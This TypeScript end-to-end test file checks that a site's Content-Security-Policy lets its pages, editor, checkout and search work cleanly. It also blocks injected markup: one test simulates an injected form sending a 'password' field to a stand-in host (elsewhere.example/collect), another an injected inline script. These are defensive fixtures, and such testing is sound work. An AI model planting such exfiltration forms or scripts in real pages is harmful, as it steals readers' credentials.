// The pages' Content-Security-Policy in Chromium (issue 16 item 2; docs/adr/0052-page-content-security-policy.md):
// home, a story, a profile and the sign-in dialog, signed out and signed in, hydrate and work
// with zero violations and zero reports; so do the editor (its chunk loads after hydration, a
// draft saves), the membership checkout (the plans page's form → the provider's hosted page,
// a redirect form-action must allow), the header's search popover and the search page. A
// script injected into a served page, and an injected form posting to another site, are
// blocked and reported to the intake (/_/clientele/reports/csp).
import type { Browser, BrowserContext, Page, Request } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { launchBrowser, ON_SITE_STORY_CARD, waitForHydration, watchPage } from './support/browser.ts';
import { createDemoSessions, type DemoSession } from './support/e2e-database.ts';

const baseURL = inject('baseURL');
const CSP_REPORT_PATH = '/_/clientele/reports/csp';

let browser: Browser;
let session: DemoSession;
let writer: DemoSession;
let paths: { story: string; profile: string };

beforeAll(async () => {
  browser = await launchBrowser();
  const sessions = createDemoSessions(['reader', 'author']);
  session = sessions.reader!;
  writer = sessions.author!;
  const page = await browser.newPage();
  await page.goto(baseURL + '/');
  const story = await page.locator(`.story-card-link[href^="/"], .story-card-link[href^="${baseURL}/"]`).first().getAttribute('href');
  await page.close();
  if (!story) throw new Error('The seeded home page lists no story');
  paths = { story, profile: '/@ada' };
});
afterAll(async () => {
  await browser?.close();
});

interface Watched {
  context: BrowserContext;
  page: Page;
  /** securitypolicyviolation events the page saw (recorded by a script the CSP does not govern). */
  violations(): Promise<{ directive: string; blocked: string }[]>;
  /** Report requests the browser sent to the intake. */
  reports: Request[];
  consoleErrors: string[];
}

async function open(signedIn: boolean | DemoSession): Promise<Watched> {
  const context = await browser.newContext({ viewport: { width: 1280, height: 900 } });
  const as = signedIn === true ? session : signedIn || null;
  if (as) await context.addCookies([{ name: 'sid', value: as.token, url: baseURL }]);
  // Injected by the browser itself (not a page script): it sees every violation of every document.
  await context.addInitScript(() => {
    const seen: { directive: string; blocked: string }[] = [];
    (window as unknown as { __cspViolations: typeof seen }).__cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (event) => seen.push({ directive: event.effectiveDirective, blocked: event.blockedURI }));
  });
  const page = await context.newPage();
  const reports: Request[] = [];
  page.on('request', (request) => {
    if (new URL(request.url()).pathname === CSP_REPORT_PATH) reports.push(request);
  });
  const { consoleErrors } = watchPage(page);
  return {
    context,
    page,
    reports,
    consoleErrors,
    violations: () => page.evaluate(() => (window as unknown as { __cspViolations: { directive: string; blocked: string }[] }).__cspViolations),
  };
}

/** Nothing was blocked, nothing reported, nothing logged as an error: the page worked under its policy. */
async function expectClean(watched: Watched, where: string): Promise<void> {
  expect(await watched.violations(), where).toEqual([]);
  expect(watched.reports.map((r) => r.postData()), where).toEqual([]);
  expect(watched.consoleErrors, where).toEqual([]);
}

/** Opens a page, checks its script policy, waits for hydration; gives back its whole policy. */
async function visit(watched: Watched, path: string): Promise<string> {
  const response = await watched.page.goto(baseURL + path);
  expect(response?.status(), `${path} answers 200`).toBe(200);
  const policy = response!.headers()['content-security-policy'] ?? '';
  expect(policy).toMatch(/script-src 'self' 'sha256-[A-Za-z0-9+/]+=*'/);
  expect(policy).not.toContain('unsafe-inline\' \'sha256'); // no unsafe-inline among script sources
  expect(policy.split(';').find((d) => d.trim().startsWith('script-src'))).not.toContain('unsafe-inline');
  await waitForHydration(watched.page);
  return policy;
}

describe.each([false, true])('signed in: %s', (signedIn) => {
  it('home, a story and a profile hydrate under the policy with no violation and no report', async () => {
    const watched = await open(signedIn);
    for (const path of ['/', paths.story, paths.profile]) {
      await visit(watched, path);
      expect(await watched.violations(), path).toEqual([]);
    }
    // Client-side navigation too: a story card to its story.
    await visit(watched, '/');
    // A story on this site (stories of writers on a custom domain link that domain).
    await watched.page.locator(`${ON_SITE_STORY_CARD} .story-card-link`).first().click();
    await watched.page.waitForSelector('h1.story-title');
    expect(await watched.violations()).toEqual([]);
    expect(watched.reports).toEqual([]);
    expect(watched.consoleErrors).toEqual([]);
    await watched.context.close();
  });
});

it('the sign-in dialog works under the policy', async () => {
  const watched = await open(false);
  await visit(watched, '/');
  await watched.page.locator('header a:visible:text-is("Sign in")').first().click();
  await watched.page.waitForSelector('[data-testid="susi-dialog"]');
  await watched.page.click('[data-testid="susi-email-option"]');
  await watched.page.waitForSelector('[data-testid="susi-dialog"][data-step="ENTER_EMAIL"]');
  await watched.page.fill('[data-testid="susi-email-field"] input', 'reader@vellum.test');
  await watched.page.keyboard.press('Enter');
  await watched.page.waitForSelector('[data-testid="susi-dialog"][data-step="CHECK_YOUR_INBOX"]');
  expect(await watched.violations()).toEqual([]);
  expect(watched.reports).toEqual([]);
  expect(watched.consoleErrors).toEqual([]);
  await watched.context.close();
});

it('the editor loads, takes words and saves the draft under the policy', async () => {
  const watched = await open(writer);
  await visit(watched, '/new-story');
  const editor = watched.page.locator('[data-testid="story-editor"]');
  await editor.waitFor();
  await watched.page.fill('input[aria-label="Title"]', 'Under the policy');
  await editor.click();
  await watched.page.keyboard.type('A few words, typed under a strict policy.');
  await expect.poll(() => watched.page.locator('[data-testid="save-status"]').textContent(), { timeout: 15_000 }).toBe('Saved');
  await expectClean(watched, '/new-story');
  await watched.context.close();
});

it("the plans page's checkout form reaches the provider's hosted checkout under the policy", async () => {
  const watched = await open(true);
  const policy = await visit(watched, '/plans');
  expect(policy.split('; ').find((d) => d.startsWith('form-action '))).toBe(`form-action 'self' ${new URL(baseURL).origin}`);
  await expectClean(watched, '/plans');
  // The form POSTs to /_/membership/checkout, answered 303 to the hosted page: form-action
  // governs that redirect too.
  await Promise.all([watched.page.waitForURL(/\/_\/dev\/pay\/checkout\//), watched.page.click('[data-testid="choose-MONTHLY"]')]);
  await watched.page.waitForSelector('#cardnumber');
  await expectClean(watched, 'the hosted checkout');
  // A declined card (the reader stays a non-member for the other tests): the page's own form works.
  await watched.page.fill('#cardnumber', '4000 0000 0000 0002');
  await watched.page.fill('#exp', '12 / 34');
  await watched.page.fill('#cvc', '123');
  await Promise.all([watched.page.waitForLoadState('load'), watched.page.click('button[type="submit"]')]);
  expect(await watched.page.locator('[data-card-error]').innerText()).toBe('Your card was declined.');
  expect(await watched.violations()).toEqual([]);
  expect(watched.reports).toEqual([]);
  await watched.context.close();
});

it('the header search popover and the search page work under the policy', async () => {
  const watched = await open(false);
  await visit(watched, '/');
  const input = watched.page.locator('[data-testid="search-box-header"] input');
  await input.click();
  await input.pressSequentially('hab');
  await watched.page.locator('[data-testid="search-popover"] [role="option"]').first().waitFor();
  await expectClean(watched, 'the search popover');
  await visit(watched, '/search?q=hab');
  await watched.page.locator('[data-testid="search-page"] .search-result').first().waitFor();
  await expectClean(watched, '/search?q=hab');
  await watched.context.close();
});

it("blocks an injected form that would send a reader's typing to another site, and reports it", async () => {
  const watched = await open(false);
  await visit(watched, '/');
  const reported = watched.page.waitForResponse((response) => new URL(response.url()).pathname === CSP_REPORT_PATH);
  // A stand-in for injected markup: a form posting elsewhere (a page script could do this, but
  // form-action is what stops the form markup alone, the case a script policy cannot).
  await watched.page.evaluate(() => {
    const form = document.createElement('form');
    form.method = 'post';
    form.action = 'https://elsewhere.example/collect';
    form.innerHTML = '<input name="password" value="secret">';
    document.body.append(form);
    form.submit();
  });
  const report = await reported;
  expect(report.status()).toBe(204);
  const body = JSON.parse(report.request().postData() ?? '{}') as { 'csp-report'?: Record<string, unknown> };
  expect(body['csp-report']).toMatchObject({ 'effective-directive': 'form-action', 'blocked-uri': 'https://elsewhere.example/collect' });
  expect(new URL(watched.page.url()).origin).toBe(new URL(baseURL).origin);
  expect(await watched.violations()).toEqual([{ directive: 'form-action', blocked: 'https://elsewhere.example/collect' }]);
  await watched.context.close();
});

it('blocks a script injected into a served page, and the browser reports it', async () => {
  const watched = await open(false);
  // A stand-in for markup injection: the served story with a script added, its headers kept.
  await watched.page.route(baseURL + paths.story, async (route) => {
    const response = await route.fetch();
    const html = (await response.text()).replace('<div id="root">', '<script>window.__injected = true;</script><div id="root">');
    await route.fulfill({ response, body: html });
  });
  const reported = watched.page.waitForResponse((response) => new URL(response.url()).pathname === CSP_REPORT_PATH);
  await visit(watched, paths.story);
  expect(await watched.page.evaluate(() => (window as unknown as { __injected?: boolean }).__injected)).toBeUndefined();
  expect(await watched.violations()).toEqual([{ directive: 'script-src-elem', blocked: 'inline' }]);
  const report = await reported;
  expect(report.status()).toBe(204);
  const body = JSON.parse(report.request().postData() ?? '{}') as { 'csp-report'?: Record<string, unknown> };
  expect(body['csp-report']).toMatchObject({ 'effective-directive': 'script-src-elem', 'blocked-uri': 'inline' });
  await watched.context.close();
});
